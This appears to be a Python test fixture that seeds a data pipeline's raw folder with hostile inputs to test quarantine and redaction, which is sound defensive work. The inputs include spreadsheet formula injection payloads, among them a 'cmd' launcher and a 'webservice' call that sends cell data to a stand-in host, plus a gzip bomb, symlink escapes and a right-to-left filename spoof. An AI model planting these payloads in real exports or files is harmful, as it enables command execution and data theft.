"""A raw folder that holds every hostile case of issue 12 beside a small normal sample.

Each case is planted with a marker that must never reach a shared file, or with the
quarantine reason it must end with. `build_corpus` returns what a test needs to check.
"""

from __future__ import annotations

import gzip
import os
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path

import orjson

from pipelines.sample.generator import GeneratorConfig, generate

OUTSIDE_MARKER = "outside-marker-3f9c2a"
ACCOUNT_ID = "usr_hostile0badc0de"
EMAIL = "hostile.person@victim-mail.example"
FORMULAS = ('=HYPERLINK("http://evil.example")', "+SUM(A1)", "-2+3", "@cmd")
# Typed into the search box by enough accounts to pass the release's key selection.
HOSTILE_SEARCHES = (
    "Usr_Hostile0badc0de",
    "dr.who@hospital.internal",
    "jane.doe@stmarys.local",
    "\u0665\u0665\u0665-\u0668\u0666\u0667-\u0665\u0663\u0660\u0669",
    "invoice\u202egnp.exe",
    '\uff1dhyperlink("http://evil.example")',
    "S_0123456789ABCDEF",
    "+sum(7+7)*cmd|'/c notepad'!a0",
    '=webservice("http://x.example/"&a1)',
    "@if(1,2)",
)
SEARCH_SECRETS = ("hospital.internal", "stmarys", "555-867-5309", "\u202e", "s_0123456789abcdef")
SEARCHERS = 300


@dataclass
class Corpus:
    """The raw folder and what was planted in it."""

    raw: Path
    outside: Path
    reasons: dict[str, str] = field(default_factory=dict)
    secrets: tuple[str, ...] = (OUTSIDE_MARKER, ACCOUNT_ID, EMAIL, *SEARCH_SECRETS)


def _event(ts: str, **fields: object) -> bytes:
    record = {"event_id": f"hostile-{ts}-{len(fields)}", "ts": ts, "event": "page_view"}
    record.update(fields)
    return orjson.dumps(record)


def _write_lines(path: Path, lines: list[bytes]) -> None:
    path.write_bytes(b"\n".join(lines) + b"\n")


def build_corpus(base: Path) -> Corpus:
    """Generate three normal days, then plant every hostile case next to them."""
    raw, outside = base / "raw", base / "outside"
    generate(GeneratorConfig(out=raw, days=3, users=80, seed=12, malformed_rate=0.0))
    events, access = raw / "events", raw / "access"
    corpus = Corpus(raw, outside)
    day = "2026-10-02"
    now = datetime.now(UTC)

    # Dates: today and tomorrow wait; far future and before the first partition are outside.
    _write_lines(
        events / "clock-today.jsonl",
        [_event(now.isoformat()), _event((now + timedelta(days=1)).isoformat())],
    )
    _write_lines(
        events / "clock-ahead.jsonl",
        [_event("2031-05-05T10:00:00Z", user_id=ACCOUNT_ID, properties={"email": EMAIL})],
    )
    _write_lines(events / "clock-behind.jsonl", [_event("2010-03-03T10:00:00Z")])
    corpus.reasons["out_of_window"] = "clock-ahead.jsonl"
    # A file with no readable timestamp at all: quarantined whole, never dated by its mtime.
    _write_lines(events / "undated.jsonl", [b"not json " + EMAIL.encode(), b'{"ts": "yesterday"}'])
    corpus.reasons["undated_file"] = "undated.jsonl"

    # Numbers past 64 bits: one line each, the rest of the day is kept.
    _write_lines(
        events / "big-numbers.jsonl",
        [
            _event(f"{day}T11:00:00Z", event="payment", properties={"amount_cents": 7}).replace(
                b'"amount_cents":7', f'"amount_cents":{2**64 + 5}'.encode()
            ),
            _event(f"{day}T11:00:01Z", event="payment", properties={"amount_cents": 1250}),
        ],
    )
    _write_lines(
        access / "big-bytes.log",
        [
            b'203.0.113.9 - - [02/Oct/2026:11:00:00 +0000] "GET /login HTTP/1.1" 200 '
            b'99999999999999999999999 "-" "curl/8.0"',
        ],
    )
    corpus.reasons["number_out_of_range"] = "big-numbers.jsonl"

    # A gzip bomb: 200 MiB of text in about 200 KiB.
    with gzip.open(events / "bomb.jsonl.gz", "wb", compresslevel=9) as bomb:
        chunk = (b"x" * 4095 + b"\n") * 256
        for _ in range(200):
            bomb.write(chunk)
    corpus.reasons["decompression_limit"] = "bomb.jsonl.gz"

    # Links and special files: never followed, never read.
    outside.mkdir(parents=True, exist_ok=True)
    secret = outside / "secret.jsonl"
    _write_lines(secret, [_event(f"{day}T09:00:00Z", user_agent=OUTSIDE_MARKER)])
    os.symlink(secret, events / "linked.jsonl")
    os.symlink(outside, raw / "access" / "elsewhere.log")
    os.mkfifo(events / "pipe.jsonl")
    (events / "folder.jsonl").mkdir()
    corpus.reasons["not_a_regular_file"] = "linked.jsonl"

    # Arbitrary text where shared values come from: user agents, profiles, formulas.
    hostile_agents = [
        f"{ACCOUNT_ID}/1.0 CFNetwork/1410.0.3 Darwin/22.6.0",
        f"Mozilla/5.0 (contact {EMAIL})",
        *FORMULAS,
    ]
    lines = [
        _event(
            f"{day}T12:{i:02d}:00Z",
            user_id=ACCOUNT_ID,
            user_agent=agent,
            url="https://app.erx-collab.example/dashboard",
        )
        for i, agent in enumerate(hostile_agents)
    ]
    lines.append(
        orjson.dumps(
            {
                "event_id": "hostile-profile",
                "ts": f"{day}T12:30:00Z",
                "event": "profile_update",
                "user_id": ACCOUNT_ID,
                "properties": {
                    "specialty": "=cmd|' /C calc'!A0",
                    "title": f"Dr {EMAIL}",
                    "state": "@SUM(1+1)",
                },
            }
        )
    )
    _write_lines(events / "hostile-values.jsonl", lines)
    access_lines = [
        f'198.51.100.7 - - [02/Oct/2026:12:{i:02d}:00 +0000] "GET /dashboard HTTP/1.1" 200 512 '
        f'"-" "{agent}"'.encode()
        for i, agent in enumerate(hostile_agents)
    ]
    _write_lines(access / "hostile-agents.log", access_lines)

    searches = [
        _event(
            f"{day}T13:{n % 60:02d}:{i:02d}Z",
            event="search",
            user_id=f"usr_sybil{n:04d}",
            properties={"query": query},
        )
        for n in range(SEARCHERS)
        for i, query in enumerate(HOSTILE_SEARCHES)
    ]
    _write_lines(events / "hostile-searches.jsonl", searches)

    # Two payments within int64 whose sum is not: gold totals must not overflow.
    _write_lines(
        events / "huge-payments.jsonl",
        [
            _event(f"{day}T14:00:0{i}Z", event="payment", user_id="usr_rich0001",
                   properties={"amount_cents": 9_000_000_000_000_000_000, "plan": "pro"})
            for i in range(2)
        ],
    )  # fmt: skip
    # A plain file named like a gzip one, and a file whose name is not UTF-8.
    (events / "plain-but-gz.jsonl.gz").write_bytes(_event(f"{day}T15:00:00Z") + b"\n")
    (Path(os.fsdecode(bytes(events) + b"/bad\xffname.jsonl"))).write_bytes(
        _event(f"{day}T15:00:01Z") + b"\n"
    )
    corpus.reasons["unreadable_file"] = "plain-but-gz.jsonl.gz"
    return corpus
